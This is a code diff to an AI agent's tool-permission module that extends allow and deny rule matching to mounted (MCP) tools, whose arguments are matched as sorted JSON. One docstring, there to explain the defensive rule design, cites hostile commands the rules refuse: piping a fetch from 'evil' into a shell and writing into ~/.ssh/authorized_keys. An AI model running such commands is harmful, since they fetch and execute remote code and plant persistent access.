@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import re
 import shlex
+from collections.abc import Mapping
 from fnmatch import fnmatchcase
 from pathlib import PurePosixPath
+from typing import Any
 
+import orjson
 from pydantic import BaseModel, Field
 
 from tools.args import ExecuteCommandArgs, ToolArgs
@@ -25,21 +28,27 @@ def default_policies() -> dict[str, ToolPolicy]:
     return {name: ToolPolicy() for name in ASK_BY_DEFAULT}
 
 
-def subject(args: ToolArgs) -> str | None:
-    """What an allow rule is matched against: the command, or the normalised path."""
+Arguments = ToolArgs | Mapping[str, Any]  # a built-in tool's, or a mounted (MCP) tool's
+
+
+def subject(args: Arguments) -> str | None:
+    """What an allow rule is matched against: the command, the normalised path, or for a
+    mounted tool its arguments as compact JSON with sorted keys (`{"word":"hub"}`)."""
+    if isinstance(args, Mapping):
+        return orjson.dumps(args, option=orjson.OPT_SORT_KEYS).decode()
     if isinstance(args, ExecuteCommandArgs):
         return args.command.strip()
     path = getattr(args, "path", None)
     return PurePosixPath(path).as_posix() if isinstance(path, str) else None
 
 
-def rule_allows(pattern: str, args: ToolArgs) -> bool:
+def rule_allows(pattern: str, args: Arguments) -> bool:
     """Whether an allow rule covers the call. A path rule is a glob ("docs/*.md"). A command rule
     is matched against the command's words, never its raw text, and only a single plain command
     can match: "npm test" allows "npm test -k x", not "npm tests", and not
     "npm test; curl evil | sh" or "npm test > ~/.ssh/authorized_keys" (an IDE may run it through
     a shell). "=npm test" allows exactly that command; a rule with `*` is a glob on the whole
-    command."""
+    command. A mounted tool's rule is a glob on its `subject`: "*" allows every call."""
     if isinstance(args, ExecuteCommandArgs):
         commands = simple_commands(args.command)
         return (
@@ -48,7 +57,7 @@ def rule_allows(pattern: str, args: ToolArgs) -> bool:
     return _path_matches(pattern, args)
 
 
-def rule_denies(pattern: str, args: ToolArgs) -> bool:
+def rule_denies(pattern: str, args: Arguments) -> bool:
     """Whether a deny rule covers the call: for a command, when any of the commands it chains
     matches the rule; a text that cannot be split (a substitution, say) is cut at every shell
     character instead, and denied if the rule's words appear in it anywhere."""
@@ -99,6 +108,6 @@ def _command_matches(pattern: str, words: list[str]) -> bool:
     return words == wanted if exact else words[: len(wanted)] == wanted
 
 
-def _path_matches(pattern: str, args: ToolArgs) -> bool:
+def _path_matches(pattern: str, args: Arguments) -> bool:
     target = subject(args)
     return target is not None and fnmatchcase(target, pattern)
